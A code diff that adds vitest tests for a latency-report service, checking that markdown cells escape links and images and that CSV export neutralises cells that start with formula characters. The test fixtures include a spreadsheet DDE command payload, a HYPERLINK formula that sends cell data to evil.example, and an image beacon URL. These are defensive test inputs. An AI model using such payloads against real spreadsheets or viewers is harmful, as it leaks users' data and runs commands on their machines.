@@ -6,6 +6,7 @@ import { percentileCurves, p99PerChip } from '../../../../services/reports/chart
 import { describe, expect, it } from 'vitest';
 import type { LoadLatencyReport } from '../../../../services/reports/load-latency.ts';
 import { loadFormat, mdCell, reportSummary } from '../../../../services/reports/report-render.ts';
+import { reportCsv } from '../../../../services/reports/load-latency.ts';
 
 describe('loadFormat', () => {
   it('prints the usual digits where they tell the values apart', () => {
@@ -31,7 +32,10 @@ describe('summary.md with ids from the data', () => {
     expect(mdCell('edge-01')).toBe('edge-01');
     expect(mdCell('mod|el,"q"\n')).toBe('mod\\|el,"q"\\u000a');
     expect(mdCell('<script>x&y</script>')).toBe('&lt;script&gt;x&amp;y&lt;/script&gt;');
-    expect(mdCell('a\\|b\u001b[31m')).toBe('a\\\\\\|b\\u001b[31m');
+    expect(mdCell('a\\|b\u001b[31m')).toBe('a\\\\\\|b\\u001b\\[31m');
+    // Links and images from the data render as text (a trial: a server id `![x](http://…)` was an image that called out).
+    expect(mdCell('![x](http://evil.example/beacon.png)')).toBe('!\\[x\\](http://evil.example/beacon.png)');
+    expect(mdCell('[Click](http://evil.example/login)')).toBe('\\[Click\\](http://evil.example/login)');
     const row = (chip: string, model_id: string) => ({ chip, model_id, bucket: 0, load_low: 0.2, load_high: 0.9, n: 40, p50_ms: 10, p90_ms: 20, p99_ms: 30, mean_ms: 12, failed: 0 });
     const report: LoadLatencyReport = {
       options: { metric: 'cpu_util', sloP99Ms: 25, model: 'mod|el' },
@@ -113,5 +117,23 @@ describe('charts: the SLO labelled, thin buckets hollow in the per-chip p99 (two
     const fleet = percentileCurves([row('*', 0, 500)], 'cpu_util', 37) as unknown as { layer: { mark: { type: string }; encoding: { text?: { value: string } } }[] };
     expect(fleet.layer.map((l) => l.mark.type)).toEqual(['line', 'rule', 'text']);
     expect(fleet.layer[2]!.encoding.text!.value).toBe('SLO p99 37 ms');
+  });
+});
+
+describe('reportCsv', () => {
+  it('puts a quote before text a spreadsheet would run as a formula (= + - @ tab CR); numbers, negative ones too, stay numbers (a trial: a server id =HYPERLINK(…) came through telemetry)', () => {
+    const report = {
+      options: { metric: 'gpu_util' }, edges: [], latency: [], knees: [], io: [], lines: [], correlation: [],
+      sensitive: [{ chip: '+chip', model_id: '=2+5*cmd|\' /C calc\'!A0', edge_server_id: '=HYPERLINK("http://evil.example/?x="&A1,"edge-07")', n: 600, pearson_r: -0.5, slope_ms_per_unit: -1.25, relative_slope: null, mean_ms: 9.8 }],
+    } as unknown as Parameters<typeof reportCsv>[0];
+    const rows = reportCsv(report).trim().split('\n').filter((l) => l.startsWith('load_sensitive_servers'));
+    expect(rows[0]).toBe(`load_sensitive_servers,'+chip,'=2+5*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?x=""&A1,""edge-07"")",,,n,600`);
+    expect(rows[1]).toMatch(/,pearson_r,-0\.5$/);
+    expect(rows[2]).toMatch(/,slope_ms_per_unit,-1\.25$/);
+    for (const id of ['@srv', '-srv', '\tsrv', 'edge-01']) {
+      const csv = reportCsv({ ...report, sensitive: [{ ...(report as { sensitive: object[] }).sensitive[0], edge_server_id: id }] } as never);
+      const cell = csv.split('\n').find((l) => l.startsWith('load_sensitive_servers'))!.split(',')[3];
+      expect(cell).toBe(id === 'edge-01' ? 'edge-01' : `'${id}`);
+    }
   });
 });
